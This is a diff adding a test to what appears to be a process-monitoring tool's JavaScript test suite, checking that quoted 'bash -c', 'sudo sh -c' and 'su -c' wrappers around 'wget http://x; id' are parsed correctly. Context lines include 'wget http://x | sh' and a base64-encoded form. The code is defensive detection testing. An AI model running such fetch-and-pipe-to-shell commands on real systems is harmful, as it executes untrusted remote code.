@@ -190,6 +190,16 @@ describe('views of a process start', () => {
     }
   });
 
+  it('reads a script with quotes around all of it, as lines are often written down', () => {
+    for (const commandLine of [
+      'bash -c "wget http://x; id"',
+      'sudo sh -c "wget http://x; id"',
+      'su -c "wget http://x; id"',
+    ]) {
+      assertView(withoutWords(start(commandLine)), '/usr/bin/wget | wget http://x');
+    }
+  });
+
   describe('decodes', () => {
     const plain = 'wget http://x | sh';
     const base64 = Buffer.from(plain).toString('base64');
